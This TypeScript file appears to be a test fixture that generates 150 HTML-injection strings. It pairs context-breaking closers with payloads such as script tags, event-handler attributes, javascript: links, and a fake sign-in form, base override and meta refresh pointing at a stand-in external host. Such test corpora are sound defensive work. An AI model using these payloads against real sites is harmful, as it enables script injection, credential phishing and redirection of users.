/** Ends of whatever a text may stand in: an element, an attribute, a comment, a script, a field. */
const wayOut = [
  '',
  '">',
  "'>",
  '" ',
  "' ",
  '`>',
  '</textarea>',
  '</title>',
  '</option></select>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</noscript>',
  '\u2028">',
]

/** What would run, load, send or deceive, once it is out. */
const markup = [
  '<script>zqRun(1)</script>',
  '<img src=x onerror=zqRun(2)>',
  '<svg/onload=zqRun(3)>',
  '<a href="javascript:zqRun(4)">here</a>',
  '<iframe srcdoc="<b>zq5</b>"></iframe>',
  '<form action="https://elsewhere.example/zq6"><button>Sign in</button></form>',
  '<base href="https://elsewhere.example/zq7/">',
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/zq8">',
  '<link rel="stylesheet" href="https://elsewhere.example/zq9.css">',
  '<b autofocus tabindex=1 onfocus=zqRun(10)>focus</b>',
]

/** 150 texts that would be markup if a page took them for it. */
export const htmlCorpus: string[] = wayOut.flatMap((out) => markup.map((inside) => out + inside))
